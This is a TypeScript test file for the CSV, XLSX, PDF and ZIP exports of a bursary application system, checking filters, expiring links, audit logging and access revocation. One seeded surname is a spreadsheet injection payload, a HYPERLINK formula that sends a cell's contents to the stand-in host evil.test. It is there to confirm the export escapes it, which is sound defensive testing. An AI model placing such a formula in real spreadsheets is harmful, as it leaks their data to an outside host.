import type { Duplex } from 'node:stream'
import { read, utils } from '@e965/xlsx'
import { strFromU8, unzipSync } from 'fflate'
import { describe, expect, test } from 'vitest'
import { DOCUMENTS, submittedFileLabel } from '../../../domain/documents.ts'
import { EVERY_SUBMISSION } from '../../../domain/desk.ts'
import { API_BASE_PATH } from '../../../domain/routes.ts'
import { subjectOf } from '../../../domain/subjects.ts'
import type { Context } from '../../../server/features/context.ts'
import { exportOf } from '../../../server/features/desk/exports.ts'
import { Reader } from '../../../server/features/reviews/reader.ts'
import { signInNeeded } from '../../../server/platform/errors.ts'
import { removeRole } from '../../../server/features/identity/staff.ts'
import { operatorEntry } from '../../../server/platform/audit/entries.ts'
import { zipOf } from '../../../server/platform/zip.ts'
import { cellsOf, recordsOf } from '../../support/csv.ts'
import { readPdf } from '../../support/pdf.ts'
import { entriesOfCall } from '../audit/trail.ts'
import { reviewerOf } from '../reviews/reviewers.ts'
import { PDF, startServer, tokenOf } from '../fixture.ts'
import { advanceTo, onlyVersion } from '../advance.ts'
import { idOf, ownerOf, pathOf, referenceOf, seed, storeFiles } from './seed.ts'
import { shortlistings } from '../../../server/platform/database/schema/submissions.ts'
import { closedAfterAll } from '../../support/closing.ts'

/** Exports from the desk: a table for spreadsheets, and an archive of the documents. */

const FORMULA = '=HYPERLINK("https://evil.test/?"&A1)'
const MANY = 60

const server = closedAfterAll(await startServer())
const chair = await server.holder('bursaryAdmin')
const applicant = await server.applicant()
await advanceTo(applicant)
const submitted = await onlyVersion(applicant)
await seed(server.db, [
  {
    key: 'ODD',
    lastName: FORMULA,
    name: '+264',
    course: 'Law; "Roman", and more',
    motivation: '<p>One,</p><p>two\nthree &amp; four</p>',
    submittedAt: '2030-02-01T08:00:00.000Z',
  },
  { key: 'AMD', lastName: 'Ümläut', versions: 2, submittedAt: '2030-02-02T08:00:00.000Z' },
])
const decision = {
  reason: 'Strong.',
  decidedBy: 'chair',
  decidedAt: new Date('2030-02-03T08:00:00.000Z'),
  shortlisted: true,
}
const of = (key: string) => ({ submissionId: idOf(key), fellowshipId: `${key}-fellowship`, owner: ownerOf(key) })
await server.db.insert(shortlistings).values([
  { ...of('AMD'), ...decision },
  { ...of('ODD'), ...decision },
  // The last decision undoes the one before.
  { ...of('ODD'), ...decision, shortlisted: false, outcome: 'undecided', reason: 'The decision was undone.' },
])
const more = Array.from({ length: MANY }, (_, index) => ({
  key: `M${String(index).padStart(2, '0')}`,
  institution: 'Many',
  submittedAt: '2030-03-01T08:00:00.000Z',
}))
await seed(server.db, more)

describe('the table', () => {
  test('opens correctly in a spreadsheet: UTF-8 with a byte order mark, one line per application, no formulas', async () => {
    const answer = await chair.get('/api/desk/submissions.csv')
    const [headers, ...rows] = cellsOf(answer.body)
    expect(answer.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
    expect(answer.headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': 'attachment; filename="applications.csv"',
    })
    expect(rows).toHaveLength(3 + MANY)
    expect(rows.every((row) => row.length === headers?.length)).toBe(true)
    const [odd, amended] = recordsOf(answer.body)
    expect(odd).toMatchObject({
      Reference: referenceOf('ODD'),
      Surname: `'${FORMULA}`,
      Name: '+264',
      '1st Choice': 'Law; "Roman", and more',
      Decision: 'Not decided',
      Reason: '',
      'Decided by': '',
      'Decided (UTC)': '',
      CV: 'my_cv.pdf',
    })
    expect(odd?.['Motivation']?.split(/\s+/)).toEqual(['One,', 'two', 'three', '&', 'four'])
    expect(amended).toMatchObject({
      Reference: referenceOf('AMD', 2),
      Surname: 'Ümläut',
      Decision: 'Shortlisted',
      Reason: 'Strong.',
      'Decided by': 'chair',
      'Decided (UTC)': '2030-02-03T08:00:00.000Z',
      'Amended since': 'Yes',
    })
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^(?!\+264$)[=+\-@\t\r]/)
  })

  test('has the filtered applications in order, across the pages it is read in', async () => {
    const { body } = await chair.get('/api/desk/submissions.csv?institution=many&sort=submittedAt&order=desc')
    const references = recordsOf(body).map((record) => record['Reference'])
    expect(references).toHaveLength(MANY)
    expect(references).toEqual([...new Set(references)].toSorted().toReversed())
  })
})

describe('an export', () => {
  /** By a caller of its own, because exports are limited. */
  const link = async (name: string, content: object = {}) =>
    (await server.holder('bursaryAdmin')).post('/api/desk/exports', { name, ...content })
  const open = (url: string) => server.app.inject({ method: 'GET', url })

  test('is saved from a link that needs no bearer header and works once, and records every application in it', async () => {
    const { url } = (await link('spreadsheet', { institution: 'many' })).json<{ url: string }>()
    const answer = await open(url)
    expect(answer.headers).toMatchObject({
      'content-type': 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      'content-disposition': 'attachment; filename="applications.xlsx"',
      'cache-control': 'no-store',
    })
    const sheet = read(answer.rawPayload).Sheets['Applications'] ?? {}
    expect(utils.sheet_to_json(sheet)).toHaveLength(MANY)
    const told = await entriesOfCall(server.db, answer.headers['x-request-id'])
    expect(told).toHaveLength(MANY)
    expect(new Set(told.map(({ object }) => object)).size).toBe(MANY)
    expect(told[0]).toMatchObject({
      action: 'submission.export',
      outcome: 'done',
      subject: expect.stringContaining('auth0|'),
      token: null,
    })
    expect((await open(url)).statusCode).toBe(404)
  })

  test('has a link that expires after 30 seconds and that ends with the session', async () => {
    const { url } = (await link('table')).json<{ url: string }>()
    server.clock.now += 30_001
    expect((await open(url)).statusCode).toBe(404)
    const other = await server.holder('bursaryAdmin')
    const second = (await other.post('/api/desk/exports', { name: 'table' })).json<{ url: string }>()
    await other.remove('/api/session')
    expect((await open(second.url)).statusCode).toBe(404)
  })

  test('keeps ID and phone numbers, and has real dates', async () => {
    const { rawPayload } = await chair.get('/api/desk/submissions.xlsx?text=PB-2030-ODD')
    const sheet = read(rawPayload, { cellNF: true }).Sheets['Applications'] ?? {}
    const [row] = utils.sheet_to_json<Record<string, string>>(sheet, { raw: false })
    expect(row).toMatchObject({ Surname: FORMULA, Name: '+264', Birthdate: '21/03/1990' })
    const at = (header: string) => {
      const columns = utils.sheet_to_json<string[]>(sheet, { header: 1 })[0] ?? []
      return sheet[`${utils.encode_col(columns.indexOf(header))}2`]
    }
    expect(at('Submitted (UTC)')).toMatchObject({ t: 'n', w: '2030-02-01 08:00:00' })
    expect(at('ID No')).toMatchObject({ t: 's', z: '@' })
  })

  test('is refused if a filter is not understood, instead of exporting every application', async () => {
    const unknown = ['decision=maybe', 'sort=surname', 'order=up', 'shortlist=yes', 'region=1&region=2']
    for (const query of unknown) {
      // Each caller may export six times a minute.
      const caller = await server.holder('bursaryAdmin')
      for (const path of ['submissions', 'submissions.csv', 'submissions.xlsx', 'documents.zip']) {
        const answer = await caller.get(`/api/desk/${path}?${query}`)
        expect([query, path, answer.statusCode]).toEqual([query, path, 422])
      }
    }
    expect((await link('spreadsheet', { decision: 'maybe' })).json()).toMatchObject({
      errors: { decision: expect.any(String) },
    })
    expect((await link('spreadsheet', { shortlist: 'yes' })).statusCode).toBe(422)
    expect((await link('everything')).statusCode).toBe(422)
  })

  test('contains only the chosen applications and columns', async () => {
    const rowsAt = async (url: string) => cellsOf((await open(url)).body)
    const [one, other] = [idOf('M00'), idOf('M01')]
    const columns = ['Email', 'Reference']
    const { url } = (await link('table', { submissions: [one, other], columns })).json<{ url: string }>()
    // In the table's order, and without one that the filter leaves out.
    expect(await rowsAt(url)).toEqual([
      ['Reference', 'Email'],
      [referenceOf('M00'), 'applicant@example.org'],
      [referenceOf('M01'), 'applicant@example.org'],
    ])
    const filtered = { submissions: [one, idOf('ODD')], columns: ['Reference'], institution: 'Many' }
    const few = (await link('table', filtered)).json<{ url: string }>()
    expect(await rowsAt(few.url)).toEqual([['Reference'], [referenceOf('M00')]])
    expect((await link('table', { columns: ['Password'] })).statusCode).toBe(422)
  })

  test('can be one PDF to read, with pages of its own for each of at most 100 applications', async () => {
    const submissions = [idOf('M00'), idOf('ODD'), idOf('AMD', 2)]
    const answer = await link('dossiers', { submissions })
    const pdf = await open(answer.json<{ url: string }>().url)
    const { text, pages } = await readPdf(pdf.rawPayload)
    for (const reference of [referenceOf('M00'), referenceOf('ODD'), referenceOf('AMD', 2)]) {
      expect(text).toContain(`Application ${reference}`)
    }
    expect(text.replaceAll(/\s+/g, ' ')).toContain('Shortlisted: Strong.')
    expect(text.match(/Page 1 of/g)).toHaveLength(3)
    expect(pages).toBeGreaterThanOrEqual(3)
    const exported = await entriesOfCall(server.db, pdf.headers['x-request-id'])
    expect(exported.map(({ object }) => object).toSorted()).toEqual(submissions.toSorted())

    const others = Array.from({ length: 101 - MANY }, (_, index) => ({ key: `P${index}`, institution: 'Many' }))
    await seed(server.db, others)
    const tooMany = await link('dossiers', { institution: 'Many' })
    expect([tooMany.statusCode, tooMany.json()]).toMatchObject([
      422,
      { errors: { submissions: 'Choose at most 100 applications for one PDF.' } },
    ])
  })

  test('without applications is not a file', async () => {
    expect((await link('archive', { text: 'unmatched' })).json()).toEqual({ url: null })
    const caller = await server.holder('bursaryAdmin')
    for (const path of ['submissions.csv', 'submissions.xlsx', 'documents.zip']) {
      const answer = await caller.get(`/api/desk/${path}?text=unmatched`)
      expect([answer.statusCode, answer.json()]).toMatchObject([404, { code: 'nothingToExport' }])
    }
  })
})

describe('the archive', () => {
  const archiveOf = async (query: string) => {
    const answer = await chair.get(`/api/desk/documents.zip${query}`)
    expect(answer.statusCode).toBe(200)
    return { answer, files: unzipSync(new Uint8Array(answer.rawPayload)) }
  }

  test('has the uploaded documents in a folder per reference', async () => {
    const { answer, files } = await archiveOf(`?text=${submitted.reference}`)
    const names = DOCUMENTS.map(({ kind }) => `${submitted.reference}/${submittedFileLabel(kind)} my_${kind}.pdf`)
    expect(Object.keys(files).toSorted()).toEqual(names.toSorted())
    for (const content of Object.values(files)) expect(PDF.equals(content)).toBe(true)
    const told = await entriesOfCall(server.db, answer.headers['x-request-id'])
    expect(told.map(({ action }) => action).toSorted()).toEqual([
      'submission.export',
      ...DOCUMENTS.map(() => 'submission.viewDocument'),
    ])
  })

  test('lists missing documents with the reason at its end, and has the rest', async () => {
    const { files } = await archiveOf(`?text=PB-2030-ODD`)
    expect(Object.keys(files)).toEqual(['not-included.txt'])
    const lines = strFromU8(files['not-included.txt'] ?? new Uint8Array())
      .trim()
      .split('\r\n')
    expect(lines).toHaveLength(DOCUMENTS.length)
    expect(lines[0]).toMatch(/^PB-2030-ODD1\/\w+ my_\w+\.pdf: Not found\.$/)
  })

  test('ends when the role of its reader is removed, and not at a log-out', async () => {
    for (const { key } of more) await storeFiles(server, key)
    const permissions = ['bursaryAdmin']
    const { id } = await reviewerOf(server, 'leaving', { permissions })
    const readUntil = async (sid: string, end: () => Promise<unknown>) => {
      const token = await tokenOf({ sub: subjectOf(id), permissions, other: { sid } })
      const headers = { authorization: `Bearer ${token}` }
      const url = `${API_BASE_PATH}/api/desk/documents.zip?institution=many`
      const parts = (await server.app.inject({ url, headers, payloadAsStream: true })).stream()
      const reading = parts[Symbol.asyncIterator]()
      await reading.next()
      await end()
      let next = await reading.next()
      while (!next.done) next = await reading.next()
    }
    await readUntil('first', () => server.sessions.end(['first']))
    const removal = async () => {
      await removeRole(server.db, { id, role: 'bursaryAdmin', by: null, entry: operatorEntry('role.revoke', null) })
      await server.sessions.end(['second'])
    }
    await expect(readUntil('second', removal)).rejects.toThrow()
  })

  test('leaves out an application in which a conflict of interest is declared while it is sent', async () => {
    for (const { key } of more) await storeFiles(server, key)
    const token = await tokenOf({ sub: 'conflicted', permissions: ['bursaryAdmin'], email: 'conflicted@bank.example' })
    const url = `${API_BASE_PATH}/api/desk/documents.zip?institution=many&order=asc`
    const headers = { authorization: `Bearer ${token}` }
    const parts = (await server.app.inject({ url, headers, payloadAsStream: true })).stream()
    const chunks: Buffer[] = []
    for await (const chunk of parts) {
      if (chunks.length === 0) await server.bearer(token).put(`${pathOf('M59')}/conflict`, {})
      chunks.push(chunk as Buffer)
    }
    const folders = Object.keys(unzipSync(new Uint8Array(Buffer.concat(chunks)))).map((name) => name.split('/')[0])
    expect(folders).toContain(referenceOf('M58'))
    expect(folders).not.toContain(referenceOf('M59'))
  })

  test('as one PDF ends, too, also while it is printed', async () => {
    const reader = await Reader.in(server.db, 'operator', { intake: '' })
    let mayExport = true
    const printAll: Context['receipts']['printAll'] = async (_owner, _about, applications) => {
      mayExport = false
      for await (const application of applications) void application
      return new Uint8Array()
    }
    const needRole = async () => {
      if (!mayExport) throw signInNeeded()
    }
    const { open } = exportOf('dossiers')
    const context = { db: server.db, receipts: { printAll }, now: () => server.clock.now } as unknown as Context
    const entry = () => operatorEntry('submission.export', null)
    const about = { filter: EVERY_SUBMISSION, submissions: [], columns: [], onFailure: () => undefined }
    const printed = open({ context, reader, entry, needRole, ...about }).toArray()
    await expect(printed).rejects.toThrow(signInNeeded().message)
  })

  async function* filesOf(count: number) {
    for (let index = 0; index < count; index += 1) yield { path: [`${index}`], open: () => Buffer.from('x') }
  }

  test('does not hold its directory entries back for a slow reader', async () => {
    const archive = zipOf(filesOf(2_000)) as Duplex
    const waiting: number[] = []
    for await (const _ of archive) {
      await new Promise(setImmediate)
      waiting.push(archive.writableLength)
    }
    expect(Math.max(...waiting)).toBeLessThan(2 * archive.writableHighWaterMark)
  })
})
